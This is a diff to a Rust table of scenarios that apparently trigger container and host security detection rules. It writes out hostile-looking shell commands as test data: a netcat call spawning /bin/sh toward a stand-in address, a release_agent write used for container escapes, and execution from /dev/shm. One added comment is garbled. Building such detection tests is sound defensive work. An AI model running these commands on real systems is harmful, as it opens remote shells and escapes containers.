@@ -90,7 +90,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
     ),
     host(
         "shared-memory",
-        "s=/dev/shm/lanner-$$; printf '#!/bin/sh\\n:\\n' > $s; chmod +x $s; $s || e=1; rm $s; exit $e",
+        "s=/dev/shm/lanner-$$; printf '#!/bin/sh\\n:\\n' > $s; chmod +x $s; sh -c $s; rm $s",
         ("Execution from /dev/shm", "Warning"),
         "Program run from shared memory",
     ),
@@ -161,24 +161,25 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         ("Debugfs Launched in Privileged Container", "Warning"),
         "File system debugger in a container",
     ),
+    // the legacy driver has no capabilities and no layers from the kernel: /proc is asked, while there is somebody
     contained(
         "release-agent",
         &["--privileged"],
-        ": > $D/release_agent",
+        ": > $D/release_agent; $A linger",
         ("Detect release_agent File Container Escapes", "Critical"),
         "Release agent written in a container",
     ),
     contained(
         "new-program",
         &[],
-        "cp $A /bin/new; /bin/new",
+        "cp $A /bin/new; /bin/new linger",
         ("Drop and execute new binary in container", "Critical"),
         "Program run that its image does not have",
     ),
     contained(
         "netcat",
         &[],
-        "nc -w 1 -e /bin/sh 127.0.0.1 22 || true",
+        "ln -s $A $D/nc; $D/nc -e /bin/sh 192.0.2.1 22",
         ("Netcat Remote Code Execution in Container", "Warning"),
         "Netcat runs a program",
     ),
